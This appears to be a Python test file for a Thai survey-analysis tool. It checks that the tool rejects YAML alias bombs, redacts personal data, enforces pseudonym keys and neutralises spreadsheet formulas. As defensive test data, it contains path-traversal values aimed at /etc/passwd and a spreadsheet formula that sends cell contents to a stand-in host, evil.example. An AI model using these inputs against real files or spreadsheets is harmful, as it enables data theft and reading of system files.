"""What careless users and attackers do (issue 16), case by case without a full run: config
that leaves the study folder, YAML alias bombs, personal data in every form redaction must
catch, the pseudonym key, formula-safe tables. The full runs are in test_hostile_run.py."""

from __future__ import annotations

import io
import time
from pathlib import Path

import pandas as pd
import pytest
import yaml

from analysis.config.files import read_yaml
from analysis.data.privacy import personal_data_kinds, pseudonym_key, redact
from analysis.errors import PhanatError
from analysis.run.pipeline import load_context, study_without_key
from tests.conftest import TEST_KEY

HOSTILE = Path(__file__).parent / "fixtures" / "hostile"


# --------------------------------------------------------------------------- config stays inside
@pytest.mark.parametrize("name", ["alias_bomb.yaml", "merge_bomb.yaml"])
def test_yaml_alias_bomb_is_a_clear_error_and_fast(name):
    start = time.perf_counter()
    with pytest.raises(PhanatError, match="YAML aliases expand to more than 200,000 values") as err:
        read_yaml(HOSTILE / name)
    assert time.perf_counter() - start < 2.0
    assert name in str(err.value) and "\n" not in str(err.value)


def test_alias_bomb_in_the_study_title(study_dir):
    bomb = (HOSTILE / "alias_bomb.yaml").read_text(encoding="utf-8")
    text = (study_dir / "study.yaml").read_text(encoding="utf-8").replace("title_th:", "old_title_th:", 1)
    (study_dir / "study.yaml").write_text(bomb + text, encoding="utf-8")
    with pytest.raises(PhanatError, match="alias bomb"):
        load_context(study_dir / "none.csv", study_dir / "codebook.yaml", study_dir / "study.yaml", ".")


def test_small_anchors_still_work(tmp_path):
    path = tmp_path / "a.yaml"
    path.write_text("base: &b {x: 1}\nother:\n  <<: *b\n  y: 2\n", encoding="utf-8")
    assert read_yaml(path)["other"] == {"x": 1, "y": 2}


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("writeup_file_en", "../../../../etc/passwd"),
        ("writeup_file", "/etc/passwd"),
        ("interpretation.criteria_file", "../criteria.yaml"),
        ("validity.ioc_file", "../../secret/ioc.csv"),
        ("pdca.indicators_file", "sub/../../indicators.yaml"),
        ("pdca.rubrics_file", "/tmp/rubrics.yaml"),
    ],
)
def test_every_config_path_must_stay_in_the_study_folder(study_dir, key, value):
    config = yaml.safe_load((study_dir / "study.yaml").read_text(encoding="utf-8"))
    *parents, leaf = key.split(".")
    node = config
    for part in parents:
        node = node.setdefault(part, {})
    node[leaf] = value
    (study_dir / "study.yaml").write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")
    with pytest.raises(PhanatError, match=rf"'{key}' points outside the study folder") as err:
        load_context(study_dir / "none.csv", study_dir / "codebook.yaml", study_dir / "study.yaml", ".")
    assert "\n" not in str(err.value)


def test_symlink_out_of_the_study_folder_is_refused(study_dir, tmp_path):
    outside = tmp_path / "outside.yaml"
    outside.write_text("secret: 1\n", encoding="utf-8")
    (study_dir / "writeup.en.yaml").unlink()
    (study_dir / "writeup.en.yaml").symlink_to(outside)
    with pytest.raises(PhanatError, match="'writeup_file_en' points outside the study folder"):
        load_context(study_dir / "none.csv", study_dir / "codebook.yaml", study_dir / "study.yaml", ".")


# --------------------------------------------------------------------------- redaction
PERSONAL = {
    "name": [
        "นายสมชาย ใจดี", "นาง สมศรี มีสุข", "นางสาวสมใจ รักเรียน", "น.ส.สมใจ รักเรียน", "คุณสมปอง ใจงาม",
        "ดร.สมหญิง ดีงาม", "ผศ.ดร.สมหญิง ดีงาม", "รศ. สมบัติ ทองดี", "ศ.สมพงษ์ แก้วใส", "ครูสมพร แสนดี",
        "ว่าที่ ร.ต.สมปอง ใจงาม", "ว่าที่ร้อยตรีสมปอง ใจงาม", "อาจารย์สมศักดิ์ ทองมา", "Mr. John Smith",
        "คุณครูสมศรี ใจดี", "นายแพทย์สมชาย ใจดี",
    ],
    "phone number": [
        "081-234-5678", "0812345678", "084.111.2244", "084 111 2244", "๐๘๔-๑๑๑-๒๒๔๔", "๐๘๑๒๓๔๕๖๗๘",
        "+66 84 111 2244", "+66841112244", "(+66) 84-111-2244", "0066 84 111 2244", "02 123 4567",
        "(084) 111 2244",
    ],
    "national ID": [
        "1-1012-00345-67-8", "1101200345678", "1 1012 00345 67 8", "๑๑๐๑๒๐๐๓๔๕๖๗๘", "3 1005 00123 45 1",
        "1101-2003-4567-1", "110.120.034.567.1",
    ],
    "LINE ID": ["line: abc123", "Line ID kru.a", "ID line: kru_a", "ไลน์ somchai99", "ไอดีไลน์: somchai_99"],
    "e-mail": ["somchai@school.ac.th", "a.b+c@example.com"],
}  # fmt: skip
NOT_PERSONAL = [
    "คุณภาพการบริการ ของสำนักงาน", "ข้าราชการครูและบุคลากรทางการศึกษา", "พ.ศ. 2564 ค.ศ. 2021", "มิถุนายน 2564",
    "4.21 4.33 3.98 4.10 0.78 1.00", "line chart of means", "sha256 3a0812345678b9", "0.0812345678",
    "n = 1480 คน", "12 30 15 8 5 70 100", "เกณฑ์ 4.21–5.00 มากที่สุด", "ครู ผู้บริหาร",
    "นายกเทศมนตรี ได้มอบทุน", "นายทะเบียน กองทุน", "นายจ้าง ลูกจ้าง", "นางพยาบาล ประจำโรงเรียน",
    "ครูอัตราจ้าง จำนวน 5 คน", "ครูชำนาญการพิเศษ ร้อยละ 20", "อาจารย์นิเทศ ประจำเขต",
    "อ.บ้านบึง จ.ชลบุรี", "อ.เมือง จังหวัดชลบุรี", "ผอ.สพป.ชลบุรี เขต 2", "คุณครู ทุกคน",
]  # fmt: skip


@pytest.mark.parametrize(("kind", "text"), [(k, t) for k, ts in PERSONAL.items() for t in ts])
def test_redaction_and_the_guard_catch_every_form(kind, text):
    sentence = f"ติดต่อ {text} ได้เลย"
    assert kind in personal_data_kinds(sentence)
    out = redact(sentence)
    assert text not in out and out.startswith("ติดต่อ [") and out.endswith("] ได้เลย"), out


@pytest.mark.parametrize("text", NOT_PERSONAL)
def test_ordinary_report_text_is_not_personal_data(text):
    assert personal_data_kinds(text) == []
    if text not in {"12 30 15 8 5 70 100", "ผอ.สพป.ชลบุรี เขต 2"}:  # raw cells are redacted more
        assert redact(text) == text  # eagerly: thirteen digits, or a title without a surname


# --------------------------------------------------------------------------- pseudonym key
def test_real_data_without_a_key_in_the_environment_is_refused(monkeypatch):
    monkeypatch.delenv("PHANAT_PSEUDONYM_KEY")
    with pytest.raises(PhanatError, match="real data need a secret pseudonymisation key"):
        pseudonym_key("PHANAT_PSEUDONYM_KEY", "synthetic-demonstration-key", synthetic=False)
    monkeypatch.setenv("PHANAT_PSEUDONYM_KEY", "")
    with pytest.raises(PhanatError, match="real data need a secret"):
        pseudonym_key("PHANAT_PSEUDONYM_KEY", "synthetic-demonstration-key", synthetic=False)


@pytest.mark.parametrize("key", ["synthetic-demonstration-key", "my-published-study-key-123"])
def test_the_published_key_is_refused_for_real_data(monkeypatch, key):
    monkeypatch.setenv("PHANAT_PSEUDONYM_KEY", key)
    with pytest.raises(PhanatError, match="is the published one"):
        pseudonym_key("PHANAT_PSEUDONYM_KEY", "my-published-study-key-123", synthetic=False)


def test_short_keys_are_refused_and_synthetic_data_use_the_published_key(monkeypatch):
    monkeypatch.setenv("PHANAT_PSEUDONYM_KEY", "1234")
    with pytest.raises(PhanatError, match="too short"):
        pseudonym_key("PHANAT_PSEUDONYM_KEY", None, synthetic=False)
    assert pseudonym_key("PHANAT_PSEUDONYM_KEY", "demo", synthetic=True) == b"demo"
    monkeypatch.setenv("PHANAT_PSEUDONYM_KEY", TEST_KEY)
    assert pseudonym_key("PHANAT_PSEUDONYM_KEY", "demo", synthetic=False) == TEST_KEY.encode()


def test_key_file_outside_the_project_only(monkeypatch, tmp_path):
    from analysis import paths

    monkeypatch.delenv("PHANAT_PSEUDONYM_KEY")
    (tmp_path / "phanat.key").write_text("a-secret-from-a-key-file-42\n", encoding="utf-8")
    monkeypatch.setenv("PHANAT_PSEUDONYM_KEY_FILE", str(tmp_path / "phanat.key"))
    assert pseudonym_key("PHANAT_PSEUDONYM_KEY", None) == b"a-secret-from-a-key-file-42"
    monkeypatch.setenv("PHANAT_PSEUDONYM_KEY_FILE", str(paths.EXAMPLE_STUDY))
    with pytest.raises(PhanatError, match="inside the project folder"):
        pseudonym_key("PHANAT_PSEUDONYM_KEY", None)


def test_copied_study_config_has_no_key(study_dir):
    text = study_without_key(study_dir / "study.yaml")
    assert "synthetic-demonstration-key" not in text
    assert yaml.safe_load(text)["pseudonym"]["key_env"] == "PHANAT_PSEUDONYM_KEY"
    flow = study_dir / "flow.yaml"
    flow.write_text("title_th: x\npseudonym: {key: 'abc-secret', key_env: K}\n", encoding="utf-8")
    assert "abc-secret" not in study_without_key(flow)


# --------------------------------------------------------------------------- formula-safe tables
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"คลิก")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def test_csv_and_xlsx_neutralise_formulas_but_keep_numbers(tmp_path):
    from openpyxl import load_workbook

    from analysis.results.store import write_table, xlsx_bytes

    frame = pd.DataFrame({"text": FORMULAS, "number": [-1.5, 2, -3, 0, 1, 2], "label": ["a", "-", "b"] * 2})
    path = write_table(frame, tmp_path, "t")
    back = pd.read_csv(path, encoding="utf-8-sig", keep_default_na=False)
    assert all(str(v).startswith("'") for v in back["text"])
    assert back["number"].tolist() == [-1.5, 2, -3, 0, 1, 2]  # numbers stay numbers
    assert back["label"].tolist() == ["a", "-", "b"] * 2  # a lone dash is not a formula
    book = load_workbook(io.BytesIO(xlsx_bytes({"s": frame})))
    cells = [c.value for row in book["s"].iter_rows(min_row=2) for c in row]
    assert not any(isinstance(v, str) and v[:1] in "=+-@\t\r" and v != "-" for v in cells)
    assert -1.5 in cells and all(c.data_type != "f" for row in book["s"].iter_rows() for c in row)


# --------------------------------------------------------------------------- byte-identical reruns
def test_cfa_estimates_are_stated_to_ten_significant_digits():
    from analysis.stats.validity import round_sig

    assert round_sig(408.8235881702194) == round_sig(408.82358817022055) == 408.8235882
    assert round_sig(0.036950352284801743) == round_sig(0.03695035228480222) == 0.03695035228
    assert round_sig(0.0) == 0.0 and round_sig(-0.7417030167846939) == -0.7417030168


# --------------------------------------------------------------------------- ambiguity is an error
def run_cli(study_dir: Path, tmp_path: Path, capsys, data: Path | None = None) -> tuple[int, str]:
    """``phanat run`` on a study folder; (exit code, stderr)."""
    from analysis.cli import main

    data = data or study_dir / "responses.csv"
    if not data.exists():
        data.write_bytes((Path(__file__).parents[1] / "data/raw/example/responses.csv").read_bytes())
    code = main(
        ["run", "--data", str(data), "--codebook", str(study_dir / "codebook.yaml"),
         "--study", str(study_dir / "study.yaml"), "--out", str(tmp_path / "run"), "--quiet"]
    )  # fmt: skip
    return code, capsys.readouterr().err


def edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_us_dates_that_cannot_be_told_apart_stop_the_run(study_dir, tmp_path, capsys):
    source = (Path(__file__).parents[1] / "data/raw/example/responses.csv").read_text(encoding="utf-8")
    lines = source.splitlines()
    stamps = [f"{1 + i % 12}/{1 + i % 9}/2021 14:05:00" for i in range(len(lines) - 1)]  # no field > 12
    body = [f"{s},{line.split(',', 1)[1]}" for s, line in zip(stamps, lines[1:], strict=True)]
    data = study_dir / "export.csv"
    data.write_text("\n".join([lines[0], *body]) + "\n", encoding="utf-8")
    code, err = run_cli(study_dir, tmp_path, capsys, data)
    assert code == 2 and err.count("\n") == 1 and "timestamp_format: MDY" in err
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("    - {value: 4, th: มาก, en: High}", "    - {value: 4, th: มาก, en: Highest}",
         "names both point 5 and point 4"),
        ("    - {value: 1, th: น้อยที่สุด, en: Lowest}", "    - {value: 1, th: น้อยที่สุด, en: '5'}",
         "is the digit of point 5"),
        ("    - {value: 5, th: มากที่สุด, en: Highest}", "    - {value: ห้า, th: มากที่สุด, en: Highest}",
         "must be a whole number, not 'ห้า'"),
    ],
)  # fmt: skip
def test_scale_labels_that_would_rescore_answers_stop_the_run(study_dir, tmp_path, capsys, old, new, message):
    edit(study_dir / "codebook.yaml", old, new)
    code, err = run_cli(study_dir, tmp_path, capsys)
    assert code == 2 and err.count("\n") == 1 and message in err and not (tmp_path / "run").exists()


def test_a_five_point_criterion_on_a_four_point_scale_stops_the_run(study_dir, tmp_path, capsys):
    edit(study_dir / "codebook.yaml", "  max: 5\n", "  max: 4\n")
    edit(study_dir / "codebook.yaml", "    - {value: 5, th: มากที่สุด, en: Highest}\n", "")
    code, err = run_cli(study_dir, tmp_path, capsys)
    assert code == 2 and "does not fit the codebook's 4-point scale" in err and "class_interval" in err


@pytest.mark.parametrize("population", ["about 1500", "1.480", "หนึ่งพัน"])
def test_a_population_that_is_not_a_count_stops_the_run(study_dir, tmp_path, capsys, population):
    edit(study_dir / "study.yaml", "population: 1480}", f"population: '{population}'}}")
    code, err = run_cli(study_dir, tmp_path, capsys)
    assert code == 2 and "groups[0].population' must be a whole number of people" in err


def test_a_population_with_separators_and_unit_is_read_whole(study_dir):
    edit(study_dir / "study.yaml", "population: 1480}", "population: '๑,๔๘๐ คน'}")
    ctx = load_context(study_dir / "none.csv", study_dir / "codebook.yaml", study_dir / "study.yaml", ".")
    assert ctx.study.groups[0].population == 1480
